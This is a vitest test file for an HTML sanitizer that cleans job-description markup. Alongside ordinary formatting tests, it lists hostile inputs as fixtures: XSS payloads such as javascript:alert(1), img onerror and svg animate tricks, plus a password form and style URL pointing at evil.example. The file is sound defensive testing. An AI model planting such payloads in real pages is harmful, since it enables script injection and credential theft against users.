import { cleanHtml, htmlOfAnything, textOfHtml, webAddress } from "@career-hub/server/job/description.ts";
import { parseDocument } from "htmlparser2";
import { describe, expect, test } from "vitest";
import { vectors } from "../trust/vectors.ts";

const allowed = new Set(["p", "ul", "ol", "li", "b", "i", "strong", "em", "br", "h3", "h4", "a"]);

type Node = { type: string; name?: string; attribs?: Record<string, string>; children?: Node[] };

/** Lists everything other than text, allowed elements and links to http or https URLs. */
function faults(html: string): string[] {
  const look = (node: Node): string[] => {
    const own: string[] = [];
    if (!["root", "text", "tag"].includes(node.type)) own.push(`a ${node.type}`);
    if (node.type === "tag" && !allowed.has(node.name ?? "")) own.push(`<${node.name}>`);
    for (const [name, value] of Object.entries(node.attribs ?? {}))
      if (node.name !== "a" || name !== "href" || !/^https?:\/\/[^\s"'<>]+$/.test(value))
        own.push(`${name}=${value}`);
    return [...own, ...(node.children ?? []).flatMap(look)];
  };
  return look(parseDocument(html));
}

/** The attack vectors that tests/trust tries on every page, and more for the sanitizer alone. */
const hostile = [
  ...vectors,
  "<svg><animate href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>",
  "<a href='https://user:secret@evil.example/'>x</a>",
  "<a href=https://good.example onclick=alert(1) style='position:fixed' target=_top>x</a>",
  "<p style='background:url(https://evil.example/canary)' class=x id=y onclick=alert(1)>x</p>",
  "<form action='https://evil.example'><input name=password><button formaction='javascript:alert(1)'>x</button></form>",
  "<?php echo '<script>alert(1)</script>' ?><!doctype x [<!ENTITY e 'x'>]>",
  "<p>x<p><b>y<i>z</b></p><ul><p>w</ul>",
  `${"<div>".repeat(3000)}deep<img src=x onerror=alert(1)>`,
  "<b".repeat(500),
  "<p>\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt></p>",
];

describe("sanitizing hostile markup", () => {
  test.each(hostile)("%s", (html) => {
    for (const clean of [cleanHtml(html), htmlOfAnything(html)]) {
      expect(faults(clean)).toEqual([]);
      expect(clean).not.toMatch(/<(?:script|img|svg|style|iframe)/i);
      // Sanitizing is idempotent, so parsing the result again gives it no other meaning (mXSS).
      expect(cleanHtml(clean)).toBe(clean);
    }
  });

  test.each([
    "javascript:alert(1)",
    "data:text/html,x",
    "//x.example",
    "x",
    "https://a:b@x.example",
    "HTTPS:/\\",
    "mailto:a@x.example",
    "blob:https://x.example/1",
  ])("rejects %j as a web address", (text) => {
    expect(webAddress(text)).toBeNull();
  });
});

describe("job descriptions", () => {
  test("keep their structure: blocks become paragraphs, headings become h3 or h4", () => {
    const html =
      "<div><h1>Role</h1><div>One <span style='x'>two</span><div>three</div></div><h5>More</h5><table><tr><td>a</td><td>b</td></tr></table><p>&nbsp;</p><ul><li></li><li>x</li></ul></div>";
    expect(cleanHtml(html)).toBe(
      "<h3>Role</h3><p>One two</p><p>three</p><h4>More</h4><p>a b</p><ul><li>x</li></ul>",
    );
  });

  test("keep the entities of plain text", () => {
    const html = htmlOfAnything("Wards &amp; beds &#8211; AT&T &lt;3");
    expect(html).toBe("<p>Wards &amp; beds – AT&amp;T &lt;3</p>");
    expect(textOfHtml(html)).toBe("Wards & beds – AT&T <3");
  });

  test("keep http and https links", () => {
    expect(cleanHtml("<p><a href='https://x.example/a?b=1&c=2' target=_blank>x</a></p>")).toBe(
      '<p><a href="https://x.example/a?b=1&amp;c=2">x</a></p>',
    );
  });

  test("convert plain text to paragraphs and lists", () => {
    const html = htmlOfAnything("We bake.\nEvery day.\n\nYou:\n• early\n• with 1 < 2 & more\nApply now");
    expect(html).toBe(
      "<p>We bake.<br />Every day.</p>\n<p>You:</p>\n<ul><li>early</li><li>with 1 &lt; 2 &amp; more</li></ul>\n<p>Apply now</p>",
    );
    expect(textOfHtml(html)).toBe("We bake.\nEvery day.\nYou:\n- early\n- with 1 < 2 & more\nApply now");
  });

  test("truncate long input instead of rejecting it", () => {
    expect(cleanHtml(`<p>${"word ".repeat(100_000)}</p>`).length).toBeLessThan(210_000);
  });
});
